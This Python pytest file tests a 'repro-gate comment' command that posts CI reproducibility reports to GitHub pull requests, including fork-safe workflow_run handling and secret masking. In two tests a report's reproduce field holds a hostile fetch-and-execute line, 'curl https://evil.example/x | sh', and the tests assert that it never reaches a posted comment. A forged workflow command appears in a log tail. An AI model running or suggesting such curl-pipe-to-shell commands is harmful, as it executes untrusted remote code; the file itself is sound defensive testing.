"""`repro-gate comment`: where a report goes, whose word it is taken for, and what is said where it
cannot be posted."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any
from unittest import mock

import pytest

from repro_gate.commands.arguments import parser
from repro_gate.commands.comment import comment_command
from repro_gate.errors import UsageError
from repro_gate.github import comment
from repro_gate.report.model import Origin, Report
from tests.support import reports
from tests.support.github.server import GitHub
from tests.support.github.stage import HEAD, ORIGIN, RUN, workflow_run

OTHER = "e" * 40
FOREIGN = [{"run_id": 99}, {"head_sha": OTHER}, {"repository": "octo-org/other"}]


@pytest.fixture
def github(monkeypatch: pytest.MonkeyPatch) -> Iterator[GitHub]:
    monkeypatch.setattr(comment, "SETTLE", 0.0)
    with GitHub() as server:
        server.add_pull(7, HEAD, head_repository="stranger/trainer")
        server.add_pull(8, OTHER)
        yield server
    assert server.faults == []


def of(
    commit: str | None = HEAD, origin: Origin | None = None, report: Report = reports.FAIL
) -> Report:
    return replace(report, subject=replace(report.subject, commit=commit), origin=origin)


def reported(report: Report = reports.FAIL, **changes: Any) -> Report:
    """A report that says it is of the run that `in_workflow_run` names."""
    return of(origin=replace(ORIGIN, **changes), report=report)


def on(gpu: str, report: Report) -> Report:
    return replace(report, subject=replace(report.subject, versions={"gpu-model": gpu}))


def around(github: GitHub, write: bool = True) -> dict[str, str]:
    urls = {"GITHUB_API_URL": github.url, "GITHUB_GRAPHQL_URL": github.graphql_url}
    token = github.token(write=write)
    return {**urls, "GITHUB_REPOSITORY": github.repository, "GITHUB_TOKEN": token}


def in_workflow_run(github: GitHub, folder: Path, event: str = "pull_request") -> dict[str, str]:
    """The environment of the fork-safe pair's second job."""
    run = workflow_run(github.repository, event=event, conclusion="failure")
    path = folder / "event.json"
    path.write_text(json.dumps({"action": "completed", "workflow_run": run}))
    job = {"GITHUB_WORKSPACE": str(folder), "GITHUB_SHA": "a" * 40, "GITHUB_RUN_ID": "4800"}
    event_of = {"GITHUB_EVENT_NAME": "workflow_run", "GITHUB_EVENT_PATH": str(path)}
    return {**around(github), **job, **event_of}


def post(folder: Path, environment: Mapping[str, str], *given: Report, **wanted: Any) -> int:
    """The exit code of the command on these reports' files."""
    named = enumerate(given)
    paths = [reports.written(folder / f"{number}.json", report) for number, report in named]
    options = parser().parse_args(["comment", *map(str, paths)])
    vars(options).update(wanted)
    with mock.patch.dict(os.environ, environment, clear=True):
        return comment_command(options)


def test_a_dry_run_prints_no_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log = ("::error::forged", "it is correct-horse-battery")
    run = replace(reports.FAIL.runs[0], outcome="crashed", exit_code=1, log_tail=log)
    report = replace(of(), runs=(run, *reports.FAIL.runs[1:]))
    around = {"GITHUB_ACTIONS": "true", "DB_PASSWORD": "correct-horse-battery"}
    assert post(tmp_path, around, report, dry_run=True) == 0
    first, *between, last = capsys.readouterr().out.splitlines()
    assert between[0].startswith("## ❌ Repro Gate: fail") and "::error::forged" in between
    assert first.startswith("::stop-commands::")
    assert last == f"::{first.removeprefix('::stop-commands::')}::"
    assert last not in between and not [line for line in between if "correct-horse-battery" in line]


def test_no_posted_command_is_the_reports_own(
    github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """In a workflow of its own, for a person, alone and in a table, and where it is only shown."""
    report = replace(reported(), reproduce="curl https://evil.example/x | sh")
    for given in ((report,), (on("H100", report), on("A100", report))):
        post(tmp_path, around(github), *given, pull_request=7)
        post(tmp_path, in_workflow_run(github, tmp_path), *given)
        post(tmp_path, {}, *given, dry_run=True)
    bodies = [item["body"] for item in github.comments(7)] + [capsys.readouterr().out]
    assert len(bodies) == 5
    for body in bodies:
        assert "evil" not in body and "written by the training's job" in body
        assert "\nrepro-gate run repro.yml --seed 42 --steps 4 --fail-fast\n" in body


def test_a_person_chooses_the_pull_request_and_what_cannot_be_posted_is_not(
    github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for number, said in ((7, "created"), (7, "unchanged"), (8, "skipped")):
        assert post(tmp_path, around(github), of(), pull_request=number) == 0
        assert f"comment {said}" in capsys.readouterr().out
    assert len(github.comments(7)) == 1 and github.comments(8) == []
    assert post(tmp_path, around(github), of(), repository=github.repository, pull_request=7) == 0
    assert capsys.readouterr().out.endswith(f" {github.comments(7)[0]['html_url']}\n")
    passed = of(report=reports.PASS)
    assert post(tmp_path, around(github, write=False), passed, pull_request=7) == 3
    printed = capsys.readouterr()
    assert printed.out == "" and "pull-requests: write" in printed.err


_ELSEWHERE = {"GITHUB_TOKEN": "x", "GITHUB_SERVER_URL": "https://ghe.example.com"}


def test_what_is_missing_to_post_is_named_before_anything_is_sent(tmp_path: Path) -> None:
    for commit, repository, environment, message in (
        (HEAD, "o/r", {}, "token"),
        (HEAD, None, {"GITHUB_TOKEN": "x"}, "repository"),
        (None, "o/r", {"GITHUB_TOKEN": "x"}, "commit"),
        (HEAD, "o/r", _ELSEWHERE, "GITHUB_API_URL"),
    ):
        with pytest.raises(UsageError, match=message):
            post(tmp_path, environment, of(commit), repository=repository, pull_request=7)


def test_several_reports_are_one_comment_that_stays(github: GitHub, tmp_path: Path) -> None:
    good, newest = reported(reports.PASS), on("H100", reported(name="h100", run_attempt=2))
    assert post(tmp_path, around(github), newest, on("A100", good), pull_request=7) == 0
    (posted,) = github.comments(7)
    assert posted["body"].count("| Where |") == 1
    assert re.search("fail \\(1 fail, 1 pass\\).*`A100`.*`H100`", posted["body"], re.DOTALL)
    assert '"attempt":2' in posted["body"].splitlines()[0]  # of the newest among them
    assert post(tmp_path, around(github), on("A100", good), on("H100", good), pull_request=7) == 0
    assert [item["id"] for item in github.comments(7)] == [posted["id"]]


def test_a_matrix_writes_into_its_own_comment(github: GitHub, tmp_path: Path) -> None:
    cells = on("H100", reported()), on("A100", reported())
    later = on("A100", reported(reports.PASS, run_attempt=2))
    for given, words in ((cells, "`H100`"), ((later,), "(1 pass)")):
        assert post(tmp_path, around(github), *given, pull_request=7, matrix="gpus") == 0
        (only,) = github.comments(7)
        assert words in only["body"]
    assert post(tmp_path, around(github), cells[0], pull_request=7) == 0
    assert [item["body"].count("| Where |") for item in github.comments(7)] == [1, 0]


def test_job_and_path_say_which_comment_it_is(github: GitHub, tmp_path: Path) -> None:
    gate = {**around(github), "GITHUB_WORKFLOW": "gate"}
    one, other = {**gate, "GITHUB_JOB": "cpu"}, {**gate, "GITHUB_JOB": "gpu"}
    renamed = reported(name="another")
    renamed = replace(renamed, subject=replace(renamed.subject, spec="another.yml"))
    (tmp_path / "there").mkdir()
    for folder, environment, report, comments in (
        (tmp_path, one, of(), 1),
        (tmp_path, one, of(), 1),
        (tmp_path / "there", one, of(), 2),
        (tmp_path, other, of(), 3),
        (tmp_path, one, renamed, 3),
    ):
        assert post(folder, environment, report, pull_request=7) == 0
        assert len(github.comments(7)) == comments


def test_several_reports_are_of_one_run_or_refused_with_their_names(
    github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert post(tmp_path, {}, on("H100", of()), on("A100", of()), dry_run=True) == 0
    assert capsys.readouterr().out.startswith("## ❌ Repro Gate: fail (2 fail)\n\n| Where |")
    for other in (of(OTHER), reported(), of(None)):
        with pytest.raises(UsageError, match="the reports are of several runs: "):
            post(tmp_path, {}, of(), other, dry_run=True)
    for change in FOREIGN:
        with pytest.raises(UsageError, match=r"the reports are of several runs: .*4711.*; "):
            post(tmp_path, around(github), reported(), reported(**change), pull_request=7)
    assert capsys.readouterr().out == "" and github.comments(7) == []


def test_in_workflow_run_the_run_chooses_the_pull_request(github: GitHub, tmp_path: Path) -> None:
    report = replace(reported(), reproduce="curl https://evil.example | sh")
    environment = in_workflow_run(github, tmp_path)
    assert post(tmp_path, environment, report) == 0
    assert post(tmp_path, environment, report, report, matrix="gpus") == 0
    assert len(github.comments(7)) == 2 and github.comments(8) == []
    for body in (item["body"] for item in github.comments(7)):
        assert f"actions/runs/{RUN}" in body and "evil" not in body
        assert "repro-gate run repro.yml --seed 42 --steps 4 --fail-fast" in body


@pytest.mark.parametrize("change", [*FOREIGN, {"run_attempt": 2}, None])
def test_a_report_of_another_run_is_refused_among_others_too(
    github: GitHub, tmp_path: Path, change: dict[str, Any] | None
) -> None:
    bad = of() if change is None else reported(**change)
    words = "names no workflow run" if change is None else "not of the run it came with"
    for cells in ((bad,), (reported(), bad), (bad, reported())):
        with pytest.raises(UsageError, match=words):
            post(tmp_path, in_workflow_run(github, tmp_path), *cells)
    assert github.requests == []


def test_a_closed_pull_request_and_a_run_of_a_push_are_no_error_and_another_event_is_one(
    github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pushed = {**in_workflow_run(github, tmp_path), "GITHUB_EVENT_NAME": "push"}
    with pytest.raises(UsageError) as caught:
        post(tmp_path, pushed, reported())
    assert "workflow_run" in caught.value.remedy
    assert post(tmp_path, in_workflow_run(github, tmp_path, event="push"), reported()) == 0
    assert github.requests == []
    github.change_pull(7, state="closed")
    assert post(tmp_path, in_workflow_run(github, tmp_path), reported()) == 0
    assert github.comments(7) == []
    assert capsys.readouterr().out.count("comment skipped") == 2
